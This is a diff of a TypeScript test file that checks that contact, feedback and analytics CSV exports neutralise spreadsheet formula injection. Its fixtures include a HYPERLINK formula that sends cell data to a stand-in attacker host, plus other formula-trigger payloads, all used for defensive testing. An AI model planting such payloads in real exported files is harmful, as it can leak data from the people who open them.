@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, expect, test, vi } from "vitest";
 import { analyticsCounter } from "#server/analytics/analytics.schema.ts";
 import { contactMessage } from "#server/contact/contact.schema.ts";
@@ -6,7 +7,7 @@ import { feedbackAnswer, feedbackCampaign } from "#server/feedback/feedback.sche
 import { testDatabase } from "#server/test/database.ts";
 import { analyticsCommands } from "./analytics-commands.ts";
 import { contactCommands } from "./contact-commands.ts";
-import { csvOf } from "./csv.ts";
+import { toCsv } from "./csv.ts";
 import { feedbackCommands } from "./feedback-commands.ts";
 import { operate } from "./operate.ts";
 
@@ -16,8 +17,8 @@ const hostile = '=HYPERLINK("http://evil.example?x="&A1)';
 beforeAll(async () => {
   vi.stubEnv("DATABASE_URL", database.url);
   await db.insert(contactMessage).values([
-    { ...letter("First"), name: hostile, message: 'He said "hi",\nand left' },
-    { ...letter("Second"), name: "@SUM(1+1)" },
+    { ...contact("First"), name: hostile, message: 'He said "hi",\nand left' },
+    { ...contact("Second"), name: "@SUM(1+1)" },
   ]);
   await db.insert(analyticsCounter).values(
     ["2026-11-19", "2026-11-20", "2026-11-21"].map((day, at) => ({
@@ -56,7 +57,7 @@ afterAll(async () => {
   await database.drop();
 });
 
-function letter(message: string) {
+function contact(message: string) {
   return {
     lang: 2,
     name: "陈大文",
@@ -73,15 +74,9 @@ function letter(message: string) {
   };
 }
 
-/** The cells of CSV, read by its rules (RFC 4180). */
-function cells(csv: string): string[][] {
-  return csv
-    .replace(/^\ufeff/, "")
-    .split("\r\n")
-    .map((row) => [...row.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = ""]) => cell.replaceAll('""', '"')));
-}
+const cells = (csv: string): string[][] => parse(csv, { bom: true });
 
-test("messages as CSV: everything in its cell, and no cell that a spreadsheet would run", async () => {
+test("contacts export: writes CSV without formulas", async () => {
   const [header = [], first = [], second = []] = cells(await operate([contactCommands], ["contacts", "export"]));
   const at = (row: string[], name: string) => row[header.indexOf(name)];
   expect([first.length, second.length]).toEqual([header.length, header.length]);
@@ -91,20 +86,20 @@ test("messages as CSV: everything in its cell, and no cell that a spreadsheet wo
   expect(at(second, "name")).toBe("'@SUM(1+1)");
 });
 
-test("messages in lines, newest first", async () => {
+test("contacts list: writes one line per message", async () => {
   const lines = (await operate([contactCommands], ["contacts", "list", "--last", "1"])).split("\n");
   expect(lines).toHaveLength(1);
   await expect(operate([contactCommands], ["contacts", "list", "--last", "0"])).rejects.toThrow("--last takes");
 });
 
-test("answers as CSV", async () => {
+test("feedback export: writes CSV without formulas", async () => {
   const [header = [], row = []] = cells(await operate([feedbackCommands], ["feedback", "export"]));
   const at = (name: string) => row[header.indexOf(name)];
   expect([at("questionnaire"), at("purposes")]).toEqual(["问卷", "event market"]);
   expect([at("channel_other"), at("suggestion")]).toEqual(["'\t-1+1", `'${hostile}`]);
 });
 
-test("counts of some days, in lines and as CSV", async () => {
+test("analytics: writes the counts of days as lines or CSV", async () => {
   const ask = (...options: string[]) => operate([analyticsCommands], ["analytics", ...options]);
   const days = ["--from", "2026-11-20", "--to", "2026-11-21"];
   expect((await ask(...days)).split("\n").map((line) => line.split("  ").slice(0, 2))).toEqual([
@@ -115,16 +110,16 @@ test("counts of some days, in lines and as CSV", async () => {
   expect(rows.map((row) => row[header.indexOf("count")])).toEqual(["2", "3"]);
   expect(rows[0]?.[header.indexOf("label")]).toBe(`'${hostile}`);
   expect(await ask("--to", "2026-11-19")).toMatch(/^2026-11-19 {2}1 /);
-  expect(await ask("--to", "2020-01-01")).toBe("Nothing was counted from 2019-12-26 to 2020-01-01.");
-  expect(await ask("--help")).toContain("npm run operator -- analytics [--from");
+  expect(await ask("--to", "2020-01-01")).toBe("No events from 2019-12-26 to 2020-01-01.");
+  expect(await ask("--help")).toContain("kapok operator analytics [--from");
   await expect(ask("--from", "2026-02-31")).rejects.toThrow("--from takes a day");
   await expect(ask("--from", "2026-11-22", "--to", "2026-11-21")).rejects.toThrow("must not be after");
-  await expect(ask("list")).rejects.toThrow("options alone");
+  await expect(ask("list")).rejects.toThrow("options only");
 });
 
 test.each(["=1", "+1", "-1", "@a", " =1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "|x", "%x"])(
-  "%j does not run",
+  "toCsv: escapes %j",
   (text) => {
-    expect(cells(csvOf(["a"], [[text]]).replace(/[\r\n](?==)/, " "))[1]?.[0]).toMatch(/^'/);
+    expect(cells(toCsv(["a"], [[text]]))[1]?.[0]).toMatch(/^'/);
   },
 );
